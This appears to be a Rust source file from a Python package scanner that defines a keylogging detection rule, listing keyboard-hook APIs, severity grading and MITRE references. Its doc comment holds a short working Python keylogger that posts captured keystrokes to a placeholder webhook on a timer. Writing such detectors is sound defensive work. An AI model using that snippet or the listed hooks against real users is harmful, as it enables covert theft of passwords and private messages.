use crate::python::names::Capture;
use crate::rules::declare_rule;

declare_rule! {
    /// Keyboard hooks and key-state polling that record what the user
    /// types, graded by whether the package also sends data out and
    /// whether it runs without being called.
    ///
    /// ## What it finds
    /// Global keyboard listeners and hooks — `pynput.keyboard.Listener`
    /// and `Events`, the `keyboard` module's `on_press`, `on_release`,
    /// `hook`, `record` and `start_recording`, `pyHook`/`pyWinhook`/
    /// `pyxhook` hook managers — and the Win32 calls keyloggers poll or
    /// hook with (`GetAsyncKeyState`, `SetWindowsHookEx`), through `ctypes`
    /// or `win32api`.
    ///
    /// ## Why it matters
    /// A keylogger records passwords, messages and card numbers as they
    /// are typed. Hot-key and automation tools hook the keyboard too, so a
    /// hook alone at runtime is low; but it is a stronger signal than a
    /// screenshot or a clipboard read, and keyloggers send their log from a
    /// timer or another function than the listener's callback, so a send
    /// anywhere in the same file is already the chain:
    /// - a send in the same file: high at runtime, critical when the hook
    ///   is installed on import, at install or at interpreter start;
    /// - no send in the file: low at runtime, high when the hook is
    ///   installed by itself (no library hooks the keyboard on import).
    ///
    /// ## Example
    /// ```python
    /// import threading, requests
    /// from pynput.keyboard import Listener
    /// log = []
    /// def send():
    ///     requests.post(WEBHOOK, data={"keys": "".join(log)})
    ///     threading.Timer(60, send).start()
    /// send()
    /// Listener(on_press=lambda k: log.append(str(k))).start()
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1056.001 (Input Capture: Keylogging), T1041
    /// (Exfiltration Over C2 Channel).
    pub struct Keylogging {
        id: "AY703",
        slug: "keylogging",
        category: Collection,
        severity: Critical,
    }
}

capture_rule!(
    Keylogging,
    Capture::Keystrokes,
    "records keystrokes",
    |_| false
);
